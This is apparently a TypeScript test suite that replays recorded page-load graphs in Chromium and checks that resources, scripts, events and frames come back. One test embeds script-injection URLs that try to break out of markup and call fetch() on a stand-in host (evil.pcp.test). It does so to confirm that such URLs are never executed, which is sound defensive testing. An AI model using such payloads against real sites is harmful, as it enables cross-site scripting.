/**
 * The round trip in real Chromium on two small legacy graphs (structural checks only: every
 * resource comes back, the page's parse structure and scripts are rebuilt) and on a hand-made page
 * whose URLs are hostile: they are requested as data and never run.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { legacySites, type ResourceNode } from '@pcp/graph-builder';
import { roundTrip, type RoundTrip } from './roundtrip.ts';
import { eventsPage, failedElementsPage, graphOf, loaderPage, neverRunPage, ownUrlFrameByScriptPage, res, responderPage, scriptPage, sharedUrlFramesPage } from './testing.ts';

const CHROMIUM = existsSync('/usr/bin/chromium');
const work = mkdtempSync(join(tmpdir(), 'pcp-synth-test-'));
test.after(() => rmSync(work, { recursive: true, force: true }));

/** GRAPH written as NAME.json, round-tripped into NAME/, and every resource back (resource Jaccard 1). */
async function roundTripWhole(name: string, graph: unknown): Promise<RoundTrip> {
  const file = join(work, `${name}.json`);
  writeFileSync(file, JSON.stringify(graph));
  const rt = await roundTrip(file, join(work, name));
  assert.equal(rt.figures.resourceJaccard, 1, `${name}: missing ${rt.figures.missingResources} extra ${rt.figures.extraResources}`);
  return rt;
}

for (const slug of ['www.friv.com', 'london.craigslist.co.uk']) {
  test(`round trip of the legacy graph ${slug}: every resource, parse chunk and script comes back`, { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
    const site = legacySites().find((s) => s.slug === slug)!;
    const rt = await roundTrip(site.graph, join(work, slug));
    assert.match(rt.profileLine, /^complete: .* 0 misses$/);
    // The legacy graph's browser (2016) ran cross-site iframes in the page's renderer: so did the replay's.
    assert.equal(JSON.parse(readFileSync(join(work, slug, 'profile', 'meta.json'), 'utf8')).options.siteIsolation, false);
    assert.equal(rt.figures.resourceJaccard, 1, `missing ${rt.figures.missingResources} extra ${rt.figures.extraResources}`);
    assert.ok(rt.figures.parseChunks.built >= rt.figures.parseChunks.source, JSON.stringify(rt.figures.parseChunks));
    const evals = (g: typeof rt.source): string[] => [...new Set(g.nodes.flatMap((n) => (n.kind === 'script_eval' ? [n.scriptUrl] : [])))].sort();
    assert.deepEqual(evals(rt.built), evals(rt.source));
    // Every evaluation of a script file follows a download of that file (which frame's request came
    // first, and so which repeat pairs with which frame, is the browser's race: not checked).
    const byId = new Map(rt.built.nodes.map((n) => [n.id, n]));
    for (const n of rt.built.nodes) {
      if (n.kind !== 'script_eval' || n.scriptKind === 'inline' || rt.built.edges.some((e) => e.to === n.id && e.rule === 'split')) continue;
      const downloads = rt.built.edges.filter((e) => e.to === n.id).map((e) => byId.get(e.from)!).filter((p) => p.kind === 'resource' && p.url === n.scriptUrl);
      assert.ok(downloads.length > 0, `${n.id} (${n.scriptUrl}) has no download of its script as parent`);
    }
  });
}

test('hostile URLs are requested as data and never run as markup or code', { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
  const page = 'http://hostile.pcp.test/';
  const evil = `http://hostile.pcp.test/x.png?"><script src="http://evil.pcp.test/run.js"></script><img src='http://evil.pcp.test/i.png'>`;
  const evilJs = `http://hostile.pcp.test/y.js?'+(fetch("http://evil.pcp.test/js"))+'</script><script>fetch("http://evil.pcp.test/s")</script>`;
  const graph = graphOf(page, [
    res('doc', page, 'text/html', 2000),
    { id: 'p0', kind: 'parse_chunk', docUrl: page, startLine: 1, startColumn: 16, endLine: 2, endColumn: 1 },
    { id: 'p1', kind: 'parse_chunk', docUrl: page, startLine: 3, startColumn: 1, endLine: 4, endColumn: 1 },
    res('img', evil, 'image/png', 500),
    res('js', evilJs, 'application/javascript', 800),
    { id: 's', kind: 'script_eval', scriptUrl: evilJs, scriptKind: 'sync', start: 1, end: 3 },
    res('img2', `${evil}&by=script`, 'image/gif', 300),
  ], [['doc', 'p0', 'resource-chunk'], ['p0', 'js', 1], ['js', 's', 10], ['s', 'p1', 4], ['p1', 'img', 1], ['s', 'img2', 2]]);
  const rt = await roundTripWhole('hostile', graph);
  const urls = rt.built.nodes.flatMap((n) => (n.kind === 'resource' ? [n.url] : []));
  assert.deepEqual(urls.filter((u) => u.includes('evil.pcp.test') && !u.startsWith('http://hostile.pcp.test/')), []);
  assert.equal(rt.figures.parentAgreement, 1, JSON.stringify(rt.figures.parentMisses));
});

test('an http script on an HSTS-preloaded host loads through the https upgrade and keeps its recorded URL', { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
  const page = 'http://hsts.pcp.test/';
  const ga = 'http://www.google-analytics.com/ga.js';
  const graph = scriptPage(page, ga, 'application/javascript', [res('img', 'http://stats.pcp.test/p.gif', 'image/gif', 300)], [['s', 'img', 2]]);
  const rt = await roundTripWhole('hsts', graph);
  assert.equal(rt.figures.parentAgreement, 1, JSON.stringify(rt.figures.parentMisses));
});

test('a script the source never ran is requested by its element and not run; the scripts that ran run', { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
  const rt = await roundTripWhole('never-run', neverRunPage('http://never-run.pcp.test/'));
  const ran = new Set(rt.built.nodes.flatMap((n) => (n.kind === 'script_eval' ? [n.scriptUrl] : [])));
  assert.ok(ran.has('http://cdn.pcp.test/app.js'), [...ran].join(' '));
  assert.ok(!ran.has('http://cdn.pcp.test/idle.js'), [...ran].join(' '));
  assert.deepEqual(rt.figures.edgeMisses.extra.filter((e) => e.to.startsWith('script http://cdn.pcp.test/idle.js')), []);
});

test("elements whose loads failed fire error, and what their handlers request comes back", { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
  const graph = failedElementsPage('http://errors.pcp.test/');
  const rt = await roundTripWhole('errors', graph);
  const errors = rt.built.nodes.filter((n) => n.kind === 'event' && n.eventName === 'error' && !rt.built.edges.some((e) => e.to === n.id && e.rule === 'split'));
  assert.equal(errors.length, 2, JSON.stringify(errors));
});

test("a document's two readystatechange handlers each run at their own state: the complete one's request is made after DOMContentLoaded, by the second dispatch", { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
  const page = 'http://states.pcp.test/';
  // www.2ch.net's shape: a listener hears both dispatches, so the `complete` handler (which inserts ad
  // frames there) ran at `interactive` too. Here the interactive handler requests a.gif, the complete one b.gif.
  const graph = scriptPage(page, 'http://cdn.pcp.test/app.js', 'application/javascript', [
    { id: 'rs0', kind: 'event', eventName: 'readystatechange', eventTarget: 'Document', start: 20, end: 21 },
    { id: 'dcl_0', kind: 'event', eventName: 'DOMContentLoaded', eventTarget: 'Document', start: 21, end: 22 },
    res('a', 'http://cdn.pcp.test/at-interactive.gif', 'image/gif', 300, { start: 21, end: 25 }),
    { id: 'rs1', kind: 'event', eventName: 'readystatechange', eventTarget: 'Document', start: 60, end: 61 },
    res('b', 'http://cdn.pcp.test/at-complete.gif', 'image/gif', 300, { start: 61, end: 65 }),
  ], [['rs0', 'a', 2], ['rs1', 'b', 2]]);
  const rt = await roundTripWhole('states', graph);
  // Each image's parent is its own dispatch (keyed by order in the document: #0 interactive, #1 complete).
  const parentOf = (url: string): string[] => rt.figures.parentMisses.find((m) => m.url === url)?.built ?? ['same as the source'];
  assert.deepEqual(parentOf('http://cdn.pcp.test/at-interactive.gif'), ['same as the source']);
  assert.deepEqual(parentOf('http://cdn.pcp.test/at-complete.gif'), ['same as the source']);
  const b = rt.built.nodes.find((n) => n.kind === 'resource' && n.url === 'http://cdn.pcp.test/at-complete.gif')!;
  const dcl = rt.built.nodes.find((n) => n.id === rt.built.markers.domContentLoaded)!;
  assert.ok(b.start > dcl.start, `at-complete.gif requested at ${b.start} ms, DOMContentLoaded at ${dcl.start} ms`);
});

test("each window error handler runs at its own script's error only", { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
  const page = 'http://two-errors.pcp.test/';
  const graph = scriptPage(page, 'http://cdn.pcp.test/app.js', 'application/javascript', [
    res('js2', 'http://cdn.pcp.test/lib.js', 'application/javascript', 400, { start: 20, end: 25 }),
    { id: 's2', kind: 'script_eval', scriptUrl: 'http://cdn.pcp.test/lib.js', scriptKind: 'async', start: 30, end: 31 },
    { id: 'err', kind: 'event', eventName: 'error', eventTarget: 'Window', start: 9, end: 10 },
    { id: 'err2', kind: 'event', eventName: 'error', eventTarget: 'Window', start: 31, end: 32 },
    res('a', 'http://cdn.pcp.test/by-error.json', 'application/json', 30, { requestType: 'XHR' }),
    res('b', 'http://cdn.pcp.test/by-error2.json', 'application/json', 30, { requestType: 'XHR' }),
  ], [['p0', 'js2', 1], ['js2', 's2', 10], ['s', 'err', 25], ['err', 'a', 2], ['s2', 'err2', 25], ['err2', 'b', 2]]);
  const rt = await roundTripWhole('two-errors', graph);
  // Each handler's XHR once (every listener at every error would send each twice).
  const requests = (url: string): number => rt.built.nodes.filter((n) => n.kind === 'resource' && n.url === url).length;
  assert.deepEqual([requests('http://cdn.pcp.test/by-error.json'), requests('http://cdn.pcp.test/by-error2.json')], [1, 1]);
});

test('a MessagePort message and a window error raised by a script run their handlers, whose requests come back', { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
  const page = 'http://ports.pcp.test/';
  const graph = scriptPage(page, 'http://cdn.pcp.test/app.js', 'application/javascript', [
    { id: 'err', kind: 'event', eventName: 'error', eventTarget: 'Window', start: 9, end: 10 },
    { id: 'port', kind: 'event', eventName: 'message', eventTarget: 'MessagePort', start: 12, end: 13 },
    res('a', 'http://cdn.pcp.test/by-error.gif', 'image/gif', 300),
    res('b', 'http://cdn.pcp.test/by-port.gif', 'image/gif', 300),
  ], [['s', 'err', 25], ['err', 'a', 2], ['s', 'port', 25], ['port', 'b', 2]]);
  const rt = await roundTripWhole('ports', graph);
  assert.deepEqual(rt.synthWarnings, []);
  // Each image's parent is the handler that requested it (the round trip profiles a graph with
  // MessagePort messages with posted-task flows, without which the trace builder names one a window callback).
  const parentOf = (url: string): string[] => rt.figures.parentMisses.find((m) => m.url === url)?.built ?? ['same as the source'];
  assert.deepEqual(parentOf('http://cdn.pcp.test/by-error.gif'), ['same as the source']);
  assert.deepEqual(parentOf('http://cdn.pcp.test/by-port.gif'), ['same as the source']);
});

test('a script element load the legacy graph hangs off a parse chunk, and messages between a page and its cross-origin frame, run their handlers, whose requests come back', { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
  for (const [name, graph, url] of [
    ['loader', loaderPage('http://loader.pcp.test/'), 'http://cdn.pcp.test/boot.js'],
    ['responder', responderPage('http://www.pcp.test/', 'http://login.pcp.test/responder.html'), 'http://login.pcp.test/p.gif'],
  ] as const) {
    const rt = await roundTripWhole(name, graph);
    // (The loader's evaluation hangs off the parse chunk, as twitter.com's streams.js does: warned, and run once.)
    assert.deepEqual(rt.synthWarnings.filter((w) => !/runs once per load/.test(w)), []);
    // boot.js only the streams.js element's onload requests; p.gif only the frame's handler of the page's answer.
    assert.ok(rt.built.nodes.some((n) => n.kind === 'resource' && n.url === url), `${name}: ${url} not requested`);
  }
});

test('focus and blur a script caused (element.focus(), blur()) run their handlers in a focused page, whose requests come back', { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
  const page = 'http://focus.pcp.test/';
  const graph = scriptPage(page, 'http://cdn.pcp.test/app.js', 'application/javascript', [
    { id: 'f', kind: 'event', eventName: 'focus', eventTarget: 'Element', start: 9, end: 10 },
    { id: 'b', kind: 'event', eventName: 'blur', eventTarget: 'Element', start: 11, end: 12 },
    { id: 'i', kind: 'event', eventName: 'focusin', eventTarget: 'Document', start: 13, end: 14 },
    res('a', 'http://cdn.pcp.test/by-focus.gif', 'image/gif', 300),
    res('c', 'http://cdn.pcp.test/by-blur.gif', 'image/gif', 300),
    res('d', 'http://cdn.pcp.test/by-focusin.gif', 'image/gif', 300),
  ], [['s', 'f', 25], ['f', 'a', 2], ['s', 'b', 25], ['b', 'c', 2], ['s', 'i', 25], ['i', 'd', 2]]);
  const rt = await roundTripWhole('focus', graph);
  assert.deepEqual(rt.synthWarnings, []);
  // Each image's parent is the focus event whose handler requested it. A document's focusin listener
  // hears its element's event: the trace names the event by its target, the element, a key the source
  // does not have (align.ts marks it rebuilt only).
  const parentOf = (url: string): string[] => rt.figures.parentMisses.find((m) => m.url === `http://cdn.pcp.test/${url}.gif`)?.built ?? ['same as the source'];
  assert.deepEqual(parentOf('by-focus'), ['same as the source']);
  assert.deepEqual(parentOf('by-blur'), ['same as the source']);
  assert.deepEqual(parentOf('by-focusin'), ['event element.focusin in http://focus.pcp.test/#0 (rebuilt only)']);
});

test('a request a timer makes seconds after load comes back: the profile waits for the source graph\'s last activity', { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
  const page = 'http://late.pcp.test/';
  const graph = scriptPage(page, 'http://cdn.pcp.test/app.js', 'application/javascript', [
    { id: 't', kind: 'timer', timerId: '1', timerDelay: 2500, start: 2509, end: 2510 },
    res('late', 'http://cdn.pcp.test/carousel.gif', 'image/gif', 300, { start: 2510, end: 2530 }),
  ], [['s', 't', 19], ['t', 'late', 2]]);
  const rt = await roundTripWhole('late', graph);
  const meta = JSON.parse(readFileSync(join(work, 'late', 'profile', 'meta.json'), 'utf8'));
  assert.equal(meta.options.quietNotBeforeMs, 4530);
  assert.equal(meta.options.siteIsolation, true, 'a synthetic graph is replayed in Chromium\'s own process model');
  assert.equal(meta.endReason, 'quiet');
});

test("an XHR body trickled in pieces: readystatechange runs once per piece, and the handlers between the first and the last now run", { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
  const page = 'http://xhr.pcp.test/';
  // HEADERS_RECEIVED, four LOADING dispatches 300 ms apart (the third requests an image), DONE, and a
  // handler hanging off DONE's last part (legacy chains go on so) that requests another.
  const ev = (id: string, start: number, end = start + 1, part?: number) => ({ id, kind: 'event', eventName: 'readystatechange', eventTarget: 'XMLHTTPRequest', start, end, ...(part === undefined ? {} : { part }) }) as const;
  const graph = scriptPage(page, 'http://cdn.pcp.test/app.js', 'application/javascript', [
    res('x', 'http://api.pcp.test/feed.json', 'application/json', 8000, { start: 10, end: 1300 }),
    ev('comp_1', 100), ev('comp_2', 400), ev('comp_3', 700), ev('comp_4', 1000), ev('comp_5', 1300), ev('comp_6_0', 1301, 1302, 0), ev('comp_6_1', 1302, 1303, 1), ev('comp_7', 1303),
    res('mid', 'http://cdn.pcp.test/while-loading.gif', 'image/gif', 300, { start: 701, end: 720 }),
    res('after', 'http://cdn.pcp.test/after-done.gif', 'image/gif', 300, { start: 1304, end: 1320 }),
  ], [['s', 'x', 2], ['x', 'comp_1', 25], ['comp_1', 'comp_2', 25], ['comp_2', 'comp_3', 25], ['comp_3', 'mid', 2], ['comp_3', 'comp_4', 25], ['comp_4', 'comp_5', 25],
    ['comp_5', 'comp_6_0', 25], ['comp_6_0', 'comp_6_1', 25], ['comp_6_1', 'comp_7', 25], ['comp_7', 'after', 2]]);
  const rt = await roundTripWhole('xhr', graph);
  // More than the three dispatches of a body sent whole (the pieces are 300 ms apart: a busy renderer may still merge two).
  const dispatches = rt.built.nodes.filter((n) => n.kind === 'event' && n.eventName === 'readystatechange' && !rt.built.edges.some((e) => e.to === n.id && e.rule === 'split'));
  assert.ok(dispatches.length > 3, `${dispatches.length} readystatechange dispatches`);
});

test("an XHR's recorded load event runs as the XHR's load, after DONE: the rebuilt graph has it, and what its handler requests hangs off it", { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
  const page = 'http://xhrload.pcp.test/';
  const ev = (id: string, name: string, start: number) => ({ id, kind: 'event', eventName: name, eventTarget: 'XMLHTTPRequest', start, end: start + 1 }) as const;
  const graph = scriptPage(page, 'http://cdn.pcp.test/app.js', 'application/javascript', [
    res('x', 'http://api.pcp.test/data.json', 'application/json', 500, { start: 10, end: 200 }),
    ev('comp_1', 'readystatechange', 100), ev('comp_2', 'readystatechange', 200), ev('comp_3', 'load', 202),
    res('after', 'http://cdn.pcp.test/after-load.gif', 'image/gif', 300, { start: 204, end: 220 }),
  ], [['s', 'x', 2], ['x', 'comp_1', 25], ['comp_1', 'comp_2', 25], ['comp_2', 'comp_3', 25], ['comp_3', 'after', 2]]);
  const file = join(work, 'xhr-load.json');
  writeFileSync(file, JSON.stringify(graph));
  const rt = await roundTrip(file, join(work, 'xhr-load'));
  assert.equal(rt.figures.resourceJaccard, 1, `missing ${rt.figures.missingResources} extra ${rt.figures.extraResources}`);
  const byId = new Map(rt.built.nodes.map((n) => [n.id, n]));
  const gif = rt.built.nodes.find((n) => n.kind === 'resource' && n.url.endsWith('after-load.gif'))!;
  const parents = rt.built.edges.filter((e) => e.to === gif.id).map((e) => byId.get(e.from)!);
  assert.ok(parents.some((p) => p.kind === 'event' && p.eventName === 'load' && p.eventTarget.toLowerCase().startsWith('xmlhttprequest')), JSON.stringify(parents));
});

test("an about:blank frame's window load handler, installed by the script that inserts its iframe, runs, and so does a script its parent inserts into it", { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
  const page = 'http://about.pcp.test/';
  const graph = scriptPage(page, 'http://cdn.pcp.test/tag.js', 'application/javascript', [
    res('frame', 'about:blank', 'text/html', 0, { start: 9, end: 9 }),
    { id: 'wl', kind: 'event', eventName: 'load', eventTarget: 'Window', frame: 'ad', start: 10, end: 12 },
    res('beacon', 'http://cdn.pcp.test/boomerang.js', 'application/javascript', 400, { frame: 'ad', start: 12, end: 20 }),
    res('ad', 'http://ads.pcp.test/ad.js', 'application/javascript', 300, { start: 10, end: 20 }),
    { id: 'adrun', kind: 'script_eval', scriptUrl: 'http://ads.pcp.test/ad.js', scriptKind: 'sync', frame: 'ad', start: 20, end: 22 },
    res('pixel', 'http://ads.pcp.test/pixel.gif', 'image/gif', 40, { frame: 'ad', start: 22, end: 30 }),
  ], [['s', 'frame', 2], ['frame', 'wl', 25], ['wl', 'beacon', 2], ['s', 'ad', 2], ['ad', 'adrun', 10], ['adrun', 'pixel', 2]]);
  graph.frames.push({ id: 'ad', url: 'about:blank', parent: 'main' });
  const file = join(work, 'about.json');
  writeFileSync(file, JSON.stringify(graph));
  const rt = await roundTrip(file, join(work, 'about'));
  assert.deepEqual(rt.synthWarnings.filter((w) => /install/.test(w)), []);
  assert.ok(rt.built.nodes.some((n) => n.kind === 'resource' && n.url === 'http://cdn.pcp.test/boomerang.js'), 'the handler requested its script');
  const loads = rt.built.nodes.filter((n) => n.kind === 'event' && n.eventName === 'load' && rt.built.edges.some((e) => e.from === n.id && (rt.built.nodes.find((c) => c.id === e.to) as { url?: string } | undefined)?.url === 'http://cdn.pcp.test/boomerang.js'));
  assert.equal(loads.length, 1, 'the request is the child of a load event');
  // The ad's script ran its about:blank program (in the frame it was inserted into): its pixel came back.
  assert.ok(rt.built.nodes.some((n) => n.kind === 'resource' && n.url === 'http://ads.pcp.test/pixel.gif'), 'the inserted script ran in the frame');
});

test('two frames of one document URL each parse their own document: each image and inline script comes back once, in its own frame', { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
  const ad = 'http://ads.pcp.test/frame.html';
  const rt = await roundTripWhole('shared-url-frames', sharedUrlFramesPage('http://www.pcp.test/', ad, 'http://cdn.pcp.test/lib.js'));
  assert.match(rt.profileLine, /^complete: .* 0 misses$/);
  const requests = (suffix: string) => rt.built.nodes.filter((n) => n.kind === 'resource' && n.url.endsWith(suffix));
  // One body for both frames would make each parse both images' tags and run the inline script twice.
  assert.equal(requests('/frame.html').length, 2);
  const [a, b] = [requests('/a.png'), requests('/b.png')];
  assert.equal(a.length, 1);
  assert.equal(b.length, 1);
  assert.notEqual(a[0]!.frame, b[0]!.frame);
  const inline = rt.built.nodes.filter((n) => n.kind === 'script_eval' && n.scriptUrl.startsWith(ad));
  assert.equal(inline.length, 1);
  assert.equal(inline[0]!.frame, b[0]!.frame);
  // Each image's parent is its own frame's chunk or script (lib.js's chunk is cut at each tag by the trace builder, not compared here).
  assert.deepEqual(rt.figures.parentMisses.filter((m) => /\/[ab]\.png$/.test(m.url)), []);
});

test('events the page asks Chromium for (a scroll, a transition, an animation, a media play) and a custom event its script dispatches run their handlers, whose requests come back', { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
  const page = 'http://events.pcp.test/';
  const rt = await roundTripWhole('events', eventsPage(page));
  assert.deepEqual(rt.synthWarnings, []);
  // Each image's parent is its event (the webkit-prefixed ones keyed by their unprefixed names).
  assert.deepEqual(rt.figures.parentMisses, []);
  // Every event has a cause in the rebuilt graph: the custom one its script (a nested dispatch), the
  // others what their frame ran last, with a warning (the trace names no cause for the browser's own
  // dispatch: a scroll, a transition's end, a play; which computation ran last is the browser's race).
  const byId = new Map(rt.built.nodes.map((n) => [n.id, n]));
  for (const name of ['pcp-custom', 'scroll', 'transitionend', 'play', 'animationiteration']) {
    const ev = rt.built.nodes.find((n) => n.kind === 'event' && n.eventName === name);
    assert.ok(ev, `no ${name} event in the rebuilt graph`);
    const parents = rt.built.edges.filter((e) => e.to === ev.id && e.rule !== 'split').map((e) => byId.get(e.from)!.kind);
    assert.ok(parents.some((k) => k === 'script_eval' || k === 'timer' || k === 'event'), `${name}: parents ${parents}`);
  }
  const custom = rt.built.nodes.find((n) => n.kind === 'event' && n.eventName === 'pcp-custom')!;
  assert.ok(rt.built.edges.some((e) => e.to === custom.id && byId.get(e.from)?.kind === 'script_eval' && e.rule === 25));
});

test('an image the source took from its HTTP cache is in the replay browser\'s cache: answered from it, not requested from the replay', { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
  const page = 'http://cache.pcp.test/';
  const graph = graphOf(page, [
    res('doc', page, 'text/html', 600, { end: 40 }),
    { id: 'p0', kind: 'parse_chunk', docUrl: page, startLine: 1, startColumn: 16, endLine: 2, endColumn: 1, start: 40, end: 41 },
    res('hit', 'https://img.pcp.test/hit.png', 'image/png', 0, { cached: true, start: 41, end: 41 }),
    res('net', 'https://img.pcp.test/net.png', 'image/png', 400, { start: 41, end: 60 }),
  ], [['doc', 'p0', 'resource-chunk'], ['p0', 'hit', 1], ['p0', 'net', 1]]);
  const file = join(work, 'cache.json');
  writeFileSync(file, JSON.stringify(graph));
  const rt = await roundTrip(file, join(work, 'cache'));
  const meta = JSON.parse(readFileSync(join(work, 'cache', 'profile', 'meta.json'), 'utf8'));
  assert.deepEqual(meta.cacheWarmUp, { urls: 1, warmed: 1, failed: 0 });
  // The replay's counts restart after the warm-up: the page and the network image only, besides a /favicon.ico
  // the browser may ask for on its own, late (counted apart; a loaded host's CI run met one).
  const counts = /; (\d+) requests(?: \(\+(\d+) unrecorded favicon\))?, 0 misses$/.exec(rt.profileLine);
  assert.ok(counts, rt.profileLine);
  assert.equal(Number(counts[1]) - Number(counts[2] ?? 0), 2, rt.profileLine);
  const log = JSON.parse(readFileSync(join(work, 'cache', 'profile', 'devtools.log.json'), 'utf8')) as { method: string; params: { response?: { url: string; fromDiskCache?: boolean } } }[];
  const response = (url: string) => log.find((e) => e.method === 'Network.responseReceived' && e.params.response?.url === url)?.params.response;
  assert.equal(response('https://img.pcp.test/hit.png')?.fromDiskCache, true);
  assert.equal(response('https://img.pcp.test/net.png')?.fromDiskCache, false);
  assert.equal(rt.figures.resourceJaccard, 1, 'the cache hit is a resource of the rebuilt graph too');
  // Its node is the cached response reaching the renderer (to its finish), as the source's is an instant: the
  // lookup before it (the request's hops, the cache's read) is the browser's, kept in its browserDelay.
  const hit = rt.built.nodes.find((n): n is ResourceNode => n.kind === 'resource' && n.url === 'https://img.pcp.test/hit.png')!;
  assert.equal(hit.cached, true);
  assert.equal(hit.start, hit.responseStart, 'a cache hit starts at its cached response');
  assert.ok(hit.browserDelay?.request !== undefined && hit.browserDelay.wait !== undefined, JSON.stringify(hit.browserDelay));
  const net = rt.built.nodes.find((n): n is ResourceNode => n.kind === 'resource' && n.url === 'https://img.pcp.test/net.png')!;
  assert.ok(net.start < net.responseStart!, 'a network response starts at its send');
});

test("a frame of the page's own URL that a script inserts runs its own document's external script, whose request comes back (www.behance.net)", { skip: !CHROMIUM && 'no Chromium', timeout: 300_000 }, async () => {
  const rt = await roundTripWhole('own-url-frame', ownUrlFrameByScriptPage('http://www.pcp.test/', 'http://cdn.pcp.test/lib.js'));
  // Without the frame's name the script finds no program and in-frame.png is never requested.
  const img = rt.built.nodes.find((n) => n.kind === 'resource' && n.url === 'http://www.pcp.test/in-frame.png')!;
  const parents = rt.built.edges.filter((e) => e.to === img.id).map((e) => rt.built.nodes.find((n) => n.id === e.from)!);
  assert.ok(parents.some((p) => p.kind === 'script_eval' && p.scriptUrl === 'http://cdn.pcp.test/lib.js'), JSON.stringify(parents));
});
